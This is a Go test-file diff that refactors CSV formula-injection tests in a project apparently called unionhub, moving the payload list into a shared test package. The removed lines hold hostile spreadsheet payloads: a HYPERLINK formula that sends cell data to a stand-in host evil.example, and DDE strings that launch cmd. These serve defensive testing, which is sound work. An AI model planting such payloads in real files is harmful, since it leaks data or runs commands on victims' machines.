@@ -11,44 +11,17 @@ import (
 	"github.com/unionhub/unionhub/hotline"
 	"github.com/unionhub/unionhub/monitoring"
 	"github.com/unionhub/unionhub/news"
+	"github.com/unionhub/unionhub/sheet"
+	"github.com/unionhub/unionhub/sheet/sheettest"
 	"github.com/unionhub/unionhub/surveys"
 )
-
-// hostile are cells a spreadsheet would run as formulas.
-var hostile = []string{
-	`=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")`,
-	"+1+cmd|' /C calc'!A0",
-	"-2+3+cmd|' /C calc'!A0",
-	"@SUM(1+9)*cmd|' /C calc'!A0",
-	"\t=1+1",
-	"\r=1+1",
-}
-
-func TestNeutralizeFormula(t *testing.T) {
-	t.Parallel()
-	for _, h := range hostile {
-		if got := neutralizeFormula(h); got != "'"+h {
-			t.Errorf("neutralizeFormula(%q) = %q, want a leading apostrophe", h, got)
-		}
-	}
-	for _, s := range []string{"", "plain", "Союз", "-5", "+7", "12.5", "-0.25", "a=b", " =1+1", "'=quoted"} {
-		if got := neutralizeFormula(s); got != s {
-			t.Errorf("neutralizeFormula(%q) = %q, want it unchanged", s, got)
-		}
-	}
-	for _, s := range []string{"-", "-5-", "-1e9", "--5", "-5,0", "=5"} {
-		if got := neutralizeFormula(s); got != "'"+s {
-			t.Errorf("neutralizeFormula(%q) = %q, want a leading apostrophe", s, got)
-		}
-	}
-}
 
 // TestEveryCSVNeutralizesFormulas writes each CSV the hub produces with
 // hostile text wherever text from people or files lands, then reads it back
 // as a spreadsheet would see it.
 func TestEveryCSVNeutralizesFormulas(t *testing.T) {
 	t.Parallel()
-	for i, h := range hostile {
+	for i, h := range sheettest.Hostile {
 		tests := []struct {
 			name  string
 			write func(w io.Writer) error
@@ -65,8 +38,8 @@ func TestEveryCSVNeutralizesFormulas(t *testing.T) {
 				}})
 			}},
 			{"export contacts", func(w io.Writer) error {
-				row := slices.Repeat([]string{h}, len(contactHeader))
-				return writeContactsCSV(w, [][]string{contactHeader, row})
+				row := slices.Repeat([]string{h}, len(monitoring.ContactHeader))
+				return sheet.WriteExcelCSV(w, [][]string{monitoring.ContactHeader, row})
 			}},
 		}
 		for _, tt := range tests {
